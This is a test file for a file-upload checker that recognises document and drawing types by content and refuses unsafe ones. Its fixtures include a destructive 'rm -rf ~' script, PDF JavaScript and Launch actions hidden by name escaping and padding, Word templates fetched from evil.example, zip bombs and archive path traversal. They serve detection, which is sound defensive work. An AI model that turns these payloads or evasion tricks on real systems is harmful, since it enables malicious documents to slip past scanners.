import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { checkContent } from './check-content.ts';
import { archiveOf, openDocument, packedPdf, pdf, pixel, wordDocument } from './test-archive.ts';

let folder: string;
beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'content-'));
});
afterAll(() => rmSync(folder, { recursive: true }));

async function check(name: string, content: Buffer | string, accept: readonly string[] = []) {
  const path = join(folder, 'file');
  writeFileSync(path, content);
  const found = await checkContent(path, name, accept);
  return 'problem' in found ? found.problem : found.contentType;
}

const sketch = Buffer.concat([Buffer.from([0xff, 0xfe, 0xff, 0x0e]), Buffer.from('SketchUp Model', 'utf16le'), Buffer.alloc(40)]);
const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const relating = (type: string, target: string, before = '') =>
  wordDocument({
    name: 'word/_rels/settings.xml.rels',
    content: `<Relationships>${before}<Relationship Id="r1" Type="http://x/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`,
  });
const script = '<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>';
const padded = (content: string) => `${' '.repeat(300_000)}${content}`;
const drawing = `1 0 0 -1 0 842 cm ${'0 0 m 100 100 l S '.repeat(100_000)}`;
const zeros = Buffer.alloc(30_000_000);

it.each([
  ['plan.pdf', pdf(), 'application/pdf'],
  ['foto.png', pixel, 'image/png'],
  ['plan.dwg', 'AC1032\0\0\0\0', 'image/vnd.dwg'],
  ['plan.dxf', '999\r\nmade by hand\r\n  0\r\nSECTION\r\n  2\r\nHEADER\r\n', 'image/vnd.dxf'],
  ['plan.DXF', '  0\nSECTION\n  2\nHEADER\n', 'image/vnd.dxf'],
  ['model.ifc', "ISO-10303-21;\nHEADER;\nFILE_DESCRIPTION(('x'),'2;1');", 'application/x-step'],
  ['bank.skp', sketch, 'application/vnd.sketchup.skp'],
  ['cv.docx', wordDocument(), expect.stringContaining('wordprocessingml')],
  [
    'sjabloon.docx',
    relating('attachedTemplate', 'file:///C:\\Users\\eva\\Normal.dotm'),
    expect.stringContaining('wordprocessingml'),
  ],
  ['link.docx', relating('hyperlink', 'https://www.example.org'), expect.stringContaining('wordprocessingml')],
  ['blad.pdf', pdf('/OpenAction [3 0 R /Fit] /URI (https://www.example.org)'), 'application/pdf'],
  ['klein.pdf', packedPdf('<< /Type /Catalog >>'), 'application/pdf'],
  ['getekend.pdf', packedPdf('', '/Filter /FlateDecode', deflateSync(drawing)), 'application/pdf'],
  ['wit.pdf', packedPdf('', '/Subtype /Image /Filter /FlateDecode', deflateSync(zeros)), 'application/pdf'],
  [
    'verwijst.pdf',
    packedPdf('', '/Type /XRef /Filter /FlateDecode /DecodeParms << /Predictor 12 >>', deflateSync('\x02\x01')),
    'application/pdf',
  ],
  ['brief.odt', openDocument(), 'application/vnd.oasis.opendocument.text'],
])('FRM-10 recognises %s by its content', async (name, content, type) => expect(await check(name, content)).toEqual(type));

it.each([
  ['a program under another name', 'cv.pdf', Buffer.from('MZ\x90\0\x03'), 'fileUnsafe'],
  ['a script', 'plan.dwg', '#!/bin/sh\nrm -rf ~\n', 'fileUnsafe'],
  ['an SVG with a script', 'logo.svg', svg, 'fileUnsafe'],
  ['an SVG as a picture', 'logo.png', svg, 'fileUnsafe'],
  ['an SVG in UTF-16', 'logo.png', Buffer.from(`\uFEFF${svg}`, 'utf16le'), 'fileUnsafe'],
  ['a page', 'index.html', '<!doctype html><p>hoi</p>', 'fileUnsafe'],
  ['a page as a PDF', 'cv.pdf', '<html><body>', 'fileUnsafe'],
  ['a picture under another name', 'cv.pdf', pixel, 'fileType'],
  ['an archive', 'alles.zip', archiveOf([{ name: 'a.txt', content: 'a' }]), 'fileType'],
  ['an archive as a document', 'cv.docx', archiveOf([{ name: 'a.txt', content: 'a' }]), 'fileType'],
  ['a document of another kind', 'cv.docx', openDocument(), 'fileType'],
  ['a broken archive', 'cv.docx', wordDocument().subarray(0, 60), 'fileType'],
  ['nothing', 'cv.pdf', '', 'fileType'],
  ['no ending', 'cv', pdf(), 'fileType'],
  ['macros', 'cv.docx', wordDocument({ name: 'word/vbaProject.bin', content: 'x' }), 'fileUnsafe'],
  ['a program within', 'cv.docx', wordDocument({ name: 'word/embeddings/setup.exe', content: 'MZ' }), 'fileUnsafe'],
  ['macros of OpenDocument', 'cv.odt', openDocument({ name: 'Basic/Standard/Module1.xml', content: 'x' }), 'fileUnsafe'],
  ['a PDF with a script', 'cv.pdf', pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), 'fileUnsafe'],
  ['a PDF with a script in codes', 'cv.pdf', pdf('/OpenAction << /S /J#61vaScript >>'), 'fileUnsafe'],
  ['a document that fetches a template', 'cv.docx', relating('attachedTemplate', 'https://evil.example/x.dotm'), 'fileUnsafe'],
  ['one that says so late', 'cv.docx', relating('attachedTemplate', 'https://evil.example/x.dotm', padded('')), 'fileUnsafe'],
  ['one that says so too late to be read', 'cv.docx', relating('x', 'x', ' '.repeat(5_000_000)), 'fileUnsafe'],
  [
    'macros told of late',
    'cv.docx',
    wordDocument({ name: '[Content_Types].xml', content: padded('macroEnabled') }),
    'fileUnsafe',
  ],
  ['a template in codes', 'cv.docx', relating('attached&#x54;emplate', 'https://evil.example/x.dotm'), 'fileUnsafe'],
  ['a document that fetches from a share', 'cv.docx', relating('attachedTemplate', 'file:///\\\\evil\\x.dotm'), 'fileUnsafe'],
  ['a document that fetches an object', 'cv.docx', relating('oleObject', 'mhtml:https://evil.example!x'), 'fileUnsafe'],
  ['a PDF that goes to an address', 'cv.pdf', pdf('/OpenAction << /S /URI /URI (https://evil.example) >>'), 'fileUnsafe'],
  ['a PDF with a script among packed objects', 'cv.pdf', packedPdf(script), 'fileUnsafe'],
  ['one far within these', 'cv.pdf', packedPdf(`${padded('')}${script}`), 'fileUnsafe'],
  ['one in codes there', 'cv.pdf', packedPdf('<< /S /#4caunch >>', '/Type /Obj#53tm /Filter /FlateDecode'), 'fileUnsafe'],
  ['packed objects that say nothing of it', 'cv.pdf', packedPdf(script, '/Filter /FlateDecode'), 'fileUnsafe'],
  [
    'packed objects that begin with blanks',
    'cv.pdf',
    packedPdf('', '/First 4', deflateSync(`${padded('5 0 ')}${script}`)),
    'fileUnsafe',
  ],
  ['objects packed twice', 'cv.pdf', packedPdf('', undefined, deflateSync(deflateSync(`5 0 ${script}`))), 'fileUnsafe'],
  [
    'objects packed otherwise',
    'cv.pdf',
    packedPdf('', '/Type /ObjStm /Filter /ASCIIHexDecode', Buffer.from('352030203c3c')),
    'fileUnsafe',
  ],
  ['packed objects in rows', 'cv.pdf', packedPdf(script, '/Type /ObjStm /Filter /FlateDecode /DecodeParms 9 0 R'), 'fileUnsafe'],
  [
    'packed objects that break off',
    'cv.pdf',
    packedPdf('', undefined, deflateSync(`5 0 ${script}`).subarray(0, -8)),
    'fileUnsafe',
  ],
  ['a PDF with a file in it', 'cv.pdf', pdf('/Type /EmbeddedFile'), 'fileUnsafe'],
])('FRM-10 refuses %s', async (_, name, content, problem) => expect(await check(name, content)).toBe(problem));

it('FRM-10 refuses a zip bomb, even one that lies about its size', async () => {
  expect(await check('cv.docx', wordDocument({ name: 'word/media/a.xml', content: zeros }))).toBe('fileUnsafe');
  const lying = { name: 'word/media/a.xml', content: zeros, saysItsSizeIs: 10 };
  expect(await check('cv.docx', wordDocument(lying))).toBe('fileUnsafe');
  const many = Array.from({ length: 2100 }, (_, index) => ({ name: `word/media/${index}.xml`, content: '' }));
  expect(await check('cv.docx', wordDocument(...many))).toBe('fileUnsafe');
  expect(await check('cv.pdf', packedPdf('', undefined, deflateSync(Buffer.alloc(210_000_000, '1 '))))).toBe('fileUnsafe');
});

it('FRM-10 refuses paths that lead out of the archive', async () => {
  expect(await check('cv.docx', wordDocument({ name: '../../etc/cron.d/x', content: 'x' }))).toBe('fileUnsafe');
});

it('FRM-10 accepts only the types that the field allows', async () => {
  expect(await check('foto.png', pixel, ['.pdf', '.JPG'])).toBe('fileType');
  expect(await check('foto.png', pixel, ['.pdf', ' .PNG'])).toBe('image/png');
});
